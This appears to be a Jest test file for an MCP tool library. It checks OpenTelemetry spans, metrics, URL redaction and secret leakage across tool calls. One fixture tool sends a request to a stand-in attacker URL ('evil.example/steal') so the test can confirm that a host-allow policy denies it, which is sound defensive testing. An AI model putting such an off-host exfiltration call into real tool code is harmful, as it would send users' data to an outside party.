/**
 * OpenTelemetry over an e2e tool call: the SDK's real Client and McpServer (both generations, in
 * memory), the sandbox's OAuth server and fake Google APIs, a real SQLite vault, and the
 * OpenTelemetry SDK's in-memory span exporter and a metric reader the test collects from.
 *
 * Asserts the MCP semantic conventions on the tools/call span, the trace id kept from `_meta`,
 * nested tools as nested spans, provider requests as child CLIENT spans with the URL redacted,
 * the metrics (tool calls and duration, provider requests by status, token refreshes, Connect
 * sessions, policy denials), and that no token or secret is in any attribute.
 */
import { afterAll, afterEach, beforeAll, describe, expect, it } from '@jest/globals';
import { context, metrics, propagation, trace } from '@opentelemetry/api';
import { AsyncLocalStorageContextManager } from '@opentelemetry/context-async-hooks';
import { AggregationTemporality, MeterProvider, MetricReader, type ResourceMetrics } from '@opentelemetry/sdk-metrics';
import { BasicTracerProvider, InMemorySpanExporter, type ReadableSpan, SimpleSpanProcessor } from '@opentelemetry/sdk-trace-base';
import { AlterMCP, AlterTool, type AlterContext } from '@alter/mcp';
import { CalendarTools, GmailTools } from '../fixtures/example.tools.js';
import { createMcpHarness, type McpHarness } from '../support/mcp-harness.js';
import { SDK_GENERATIONS, type SdkKit } from '../support/sdk-generations.js';

/** A reader the test collects from on demand (cumulative, so counts add up over the file). */
class CollectingReader extends MetricReader {
  constructor() {
    super({ aggregationTemporalitySelector: () => AggregationTemporality.CUMULATIVE });
  }
  protected async onForceFlush(): Promise<void> {}
  protected async onShutdown(): Promise<void> {}
  async metrics(): Promise<ResourceMetrics> {
    const { resourceMetrics, errors } = await this.collect();
    expect(errors).toEqual([]);
    return resourceMetrics;
  }
}

/** Sum of a counter's points, or count of a histogram's, matching the attributes given. */
function total(rm: ResourceMetrics, name: string, where: Record<string, unknown> = {}): number {
  let sum = 0;
  for (const scope of rm.scopeMetrics) {
    for (const metric of scope.metrics) {
      if (metric.descriptor.name !== name) continue;
      for (const point of metric.dataPoints as Array<{ attributes: Record<string, unknown>; value: unknown }>) {
        if (!Object.entries(where).every(([k, v]) => point.attributes[k] === v)) continue;
        const value = point.value as number | { count: number };
        sum += typeof value === 'number' ? value : value.count;
      }
    }
  }
  return sum;
}

class EgressTools {
  @AlterTool('google', { description: 'Calls a host the Google provider does not allow.' })
  async offHost(ctx: AlterContext): Promise<string> {
    await ctx.request('GET', 'https://evil.example/steal');
    return 'sent';
  }
}

const exporter = new InMemorySpanExporter();
const reader = new CollectingReader();
const tracerProvider = new BasicTracerProvider({ spanProcessors: [new SimpleSpanProcessor(exporter)] });
const meterProvider = new MeterProvider({ readers: [reader] });
let h: McpHarness;

beforeAll(async () => {
  context.setGlobalContextManager(new AsyncLocalStorageContextManager().enable());
  trace.setGlobalTracerProvider(tracerProvider);
  metrics.setGlobalMeterProvider(meterProvider);
  h = await createMcpHarness();
});
afterAll(async () => {
  await h?.close();
  await meterProvider.shutdown();
  await tracerProvider.shutdown();
  trace.disable();
  metrics.disable();
  context.disable();
  propagation.disable();
});
afterEach(() => exporter.reset());

function attributesOf(spans: readonly ReadableSpan[]): string {
  return JSON.stringify(spans.map((s) => ({ name: s.name, attributes: s.attributes, events: s.events, status: s.status })));
}

async function connect(sdk: SdkKit, modules: object[], user = `alice-${sdk.name}`) {
  const alter = new AlterMCP(h.vault, { defaultUser: user, logger: h.leak.logger });
  const server = sdk.mcpServer('otel');
  alter.register(server, modules);
  const client = await sdk.connectInMemory(server);
  return {
    client,
    close: async () => {
      await client.close();
      await server.close();
    },
  };
}

describe.each(SDK_GENERATIONS)('OpenTelemetry spans and metrics (SDK $name)', (sdk) => {
  it('traces a tools/call with the MCP conventions, parented by _meta, with the provider request as a child', async () => {
    const { client, close } = await connect(sdk, [CalendarTools]);
    // First call: no grant yet → the Connect answer (an isError result) → error.type tool_error.
    const first = await client.callTool('list_events', { maxResults: 3 });
    expect(first.isError).toBe(true);
    const url = /(http:\/\/127\.0\.0\.1:\d+\/connect\/[A-Za-z0-9_-]+)/.exec(first.content[0]!.text!)![1]!;
    await h.sandbox.approve(url, { login: 'alice' });
    await h.collectTokens();
    exporter.reset();

    const traceId = '4bf92f3577b34da6a3ce929d0e0e4736';
    const parentSpanId = '00f067aa0ba902b7';
    const ok = await client.callTool('list_events', { maxResults: 3 }, { meta: { traceparent: `00-${traceId}-${parentSpanId}-01` } });
    expect(ok.isError).toBeFalsy();

    const spans = exporter.getFinishedSpans();
    const call = spans.find((s) => s.name === 'tools/call list_events')!;
    expect(call).toBeDefined();
    expect(call.kind).toBe(1); // SERVER
    expect(call.spanContext().traceId).toBe(traceId);
    expect(call.parentSpanContext?.spanId).toBe(parentSpanId);
    expect(call.attributes).toMatchObject({
      'mcp.method.name': 'tools/call',
      'gen_ai.tool.name': 'list_events',
      'gen_ai.operation.name': 'execute_tool',
      'jsonrpc.request.id': expect.any(String),
    });
    expect(call.attributes['error.type']).toBeUndefined();

    const http = spans.find((s) => s.attributes['http.request.method'] === 'GET')!;
    expect(http).toBeDefined();
    expect(http.kind).toBe(2); // CLIENT
    expect(http.name).toBe('GET /calendar/v3/calendars/primary/events');
    expect(http.spanContext().traceId).toBe(traceId);
    expect(http.parentSpanContext?.spanId).toBe(call.spanContext().spanId);
    expect(http.attributes).toMatchObject({
      'http.response.status_code': 200,
      'url.template': '/calendar/v3/calendars/primary/events',
      'alter.provider': 'google',
      'server.address': expect.any(String),
    });
    // The URL exactly as the audit row shows it (redact-url.ts), never more.
    await h.vault.audit.flush();
    const [row] = await h.vault.audit.query({ user: `alice-${sdk.name}`, tool: 'list_events', limit: 1 });
    expect(http.attributes['url.full']).toBe(row!.url);
    h.leak.inspect(attributesOf(spans), 'span attributes');
    await close();
  });

  it('marks a protocol error answer (-32042, URL elicitation required) with its JSON-RPC code', async () => {
    const alter = new AlterMCP(h.vault, { defaultUser: `elicit-${sdk.name}`, logger: h.leak.logger });
    const server = sdk.mcpServer('otel-elicit');
    alter.register(server, [CalendarTools]);
    const client = await sdk.connectInMemory(server, { urlElicitation: true });
    const err = await client.callTool('list_events', { maxResults: 1 }).then(
      () => undefined,
      (e: unknown) => e,
    );
    expect(sdk.protocolError(err)?.code).toBe(-32042);
    const call = exporter.getFinishedSpans().find((s) => s.name === 'tools/call list_events')!;
    expect(call.attributes['error.type']).toBe('-32042');
    expect(call.status.code).toBe(2); // ERROR
    h.leak.inspect(attributesOf(exporter.getFinishedSpans()), 'span attributes');
    await client.close();
    await server.close();
  });

  it('gives nested tools nested spans under the top-level call', async () => {
    const { client, close } = await connect(sdk, [GmailTools]);
    const first = await client.callTool('summarize_inbox', {});
    if (first.isError) {
      const url = /(http:\/\/127\.0\.0\.1:\d+\/connect\/[A-Za-z0-9_-]+)/.exec(first.content[0]!.text!)![1]!;
      await h.sandbox.approve(url, { login: 'alice' });
      await h.collectTokens();
      exporter.reset();
      expect((await client.callTool('summarize_inbox', {})).isError).toBeFalsy();
    }
    const spans = exporter.getFinishedSpans();
    const top = spans.find((s) => s.name === 'tools/call summarize_inbox')!;
    const nested = spans.find((s) => s.name === 'tools/call list_emails')!;
    expect(nested.kind).toBe(0); // INTERNAL
    expect(nested.parentSpanContext?.spanId).toBe(top.spanContext().spanId);
    const http = spans.find((s) => s.attributes['alter.provider'] === 'google')!;
    expect(http.parentSpanContext?.spanId).toBe(nested.spanContext().spanId);
    h.leak.inspect(attributesOf(spans), 'span attributes');
    await close();
  });
});

describe('OpenTelemetry metrics', () => {
  it('counts tool calls and their duration, provider requests by status, refreshes, Connect sessions and policy denials', async () => {
    const sdk = SDK_GENERATIONS[0]!;
    const before = await reader.metrics();
    const { client, close } = await connect(sdk, [CalendarTools, EgressTools], 'alice-metrics');
    // A user of its own: the first call answers with a Connect link (a session started, then completed).
    const probe = await client.callTool('list_events', { maxResults: 1 });
    expect(probe.isError).toBe(true);
    const url = /(http:\/\/127\.0\.0\.1:\d+\/connect\/[A-Za-z0-9_-]+)/.exec(probe.content[0]!.text!)![1]!;
    await h.sandbox.approve(url, { login: 'alice' });
    await h.collectTokens();
    // Every access token expires: the next call refreshes once.
    h.sandbox.faults.expireAccessTokens();
    expect((await client.callTool('list_events', { maxResults: 1 })).isError).toBeFalsy();
    await h.collectTokens();
    const denied = await client.callTool('off_host', {});
    expect(denied.isError).toBe(true);

    const after = await reader.metrics();
    const delta = (name: string, where: Record<string, unknown> = {}) => total(after, name, where) - total(before, name, where);
    expect(delta('mcp.server.operation.duration', { 'gen_ai.tool.name': 'list_events' })).toBeGreaterThanOrEqual(2);
    expect(delta('mcp.server.operation.duration', { 'gen_ai.tool.name': 'off_host', 'error.type': 'tool_error' })).toBe(1);
    expect(delta('http.client.request.duration', { 'alter.provider': 'google', 'http.response.status_code': 200 })).toBeGreaterThanOrEqual(
      1,
    );
    expect(delta('alter.vault.token.refreshes', { 'alter.provider': 'google', 'alter.outcome': 'success' })).toBe(1);
    expect(delta('alter.policy.denials', { 'alter.provider': 'google', 'alter.policy.rule': 'ALTER_HOST_NOT_ALLOWED' })).toBe(1);
    expect(delta('alter.connect.sessions', { 'alter.connect.event': 'started' })).toBe(1);
    expect(delta('alter.connect.sessions', { 'alter.connect.event': 'completed' })).toBe(1);
    h.leak.inspect(JSON.stringify(after), 'metrics');
    await close();
  });

  it('counts Connect sessions started and completed', async () => {
    const before = await reader.metrics();
    const session = await h.vault.connect.createSession({ user: 'carol', providers: { google: ['openid'] } });
    await h.sandbox.approve(session.url, { login: 'alice' });
    await h.vault.connect.waitFor(session.id, { timeoutMs: 30_000 });
    const after = await reader.metrics();
    expect(
      total(after, 'alter.connect.sessions', { 'alter.connect.event': 'started' }) -
        total(before, 'alter.connect.sessions', { 'alter.connect.event': 'started' }),
    ).toBe(1);
    expect(
      total(after, 'alter.connect.sessions', { 'alter.connect.event': 'completed' }) -
        total(before, 'alter.connect.sessions', { 'alter.connect.event': 'completed' }),
    ).toBe(1);
  });
});
